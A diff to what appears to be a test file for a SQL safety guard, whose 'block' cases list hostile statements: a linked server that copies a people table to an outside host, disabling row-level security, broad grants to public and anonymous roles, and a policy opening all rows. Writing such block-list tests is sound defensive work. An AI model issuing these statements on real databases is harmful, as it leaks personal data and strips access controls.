@@ -52,7 +52,7 @@ const CASES: { name: string; block: string[]; pass: string[] }[] = [
     block: [
       "EXEC sp_addlinkedserver @server = N'EXT1', @srvproduct = N'', @provider = N'SQLNCLI', @datasrc = N'db.partner-host.com';\nINSERT INTO EXT1.stage.dbo.people SELECT * FROM dbo.people;",
       "ALTER TABLE public.accounts DISABLE ROW LEVEL SECURITY; GRANT SELECT ON public.accounts TO anon;",
-      "GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO public;",
+      "GRANT INSERT, UPDATE ON ALL TABLES IN SCHEMA app TO public;",
       "CREATE POLICY open_all ON public.notes FOR ALL TO anon USING (true);",
     ],
     pass: [
